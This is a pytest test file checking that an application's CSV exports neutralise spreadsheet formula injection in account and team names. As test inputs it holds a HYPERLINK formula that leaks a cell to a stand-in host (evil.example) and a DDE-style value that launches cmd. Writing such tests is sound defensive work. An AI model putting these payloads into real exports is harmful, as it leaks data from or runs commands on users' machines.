"""CSV exports never hand a spreadsheet a formula from user-typed text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.models import CompetitorEvent
from csrisk import clock
from csrisk.models import Team
from tests.conftest import login
from tests.insights.helpers import NOW, book, days_ago

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Amber Bank")'


@pytest.fixture(autouse=True)
def fixed_clock():
    with clock.frozen(NOW):
        yield


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_it_neutralises_a_formula_in_an_account_name_in_the_actions_export(org):
    b = book(org)
    b["alpha"].name = FORMULA
    b["alpha"].save()
    CompetitorEvent.objects.create(
        account=b["alpha"], competitor="Rival", activity="evaluation", occurred_at=days_ago(3)
    )
    exported = rows(login(org.vp).get("/summary/export.csv?table=actions"))
    names = [row[1] for row in exported[1:]]
    assert "'" + FORMULA in names
    assert not any(cell.startswith(("=", "+", "@")) for row in exported for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_formula_start_in_a_team_name(org, start):
    book(org)
    Team.objects.filter(name="CS A").update(name=f"{start}cmd|' /C calc'!A0")
    exported = rows(login(org.vp).get("/summary/export.csv?table=team"))
    labels = [row[0] for row in exported[1:]]
    assert f"'{start}cmd|' /C calc'!A0" in labels


def test_it_keeps_negative_numbers_as_numbers(org):
    # The money deltas go negative (SMB was red 30 days ago and is green now): a sheet must
    # still read them as numbers, so plain numbers are never prefixed.
    book(org)
    exported = rows(login(org.vp).get("/summary/export.csv?table=segment"))
    deltas = [cell for row in exported[1:] for cell in row[5:]]
    assert "-30000.00" in deltas
    assert not any(cell.startswith("'") for cell in deltas)


def test_it_keeps_a_name_that_merely_looks_like_a_negative_number(org):
    book(org)
    Team.objects.filter(name="CS A").update(name="-42")
    exported = rows(login(org.vp).get("/summary/export.csv?table=team"))
    assert "-42" in [row[0] for row in exported[1:]]
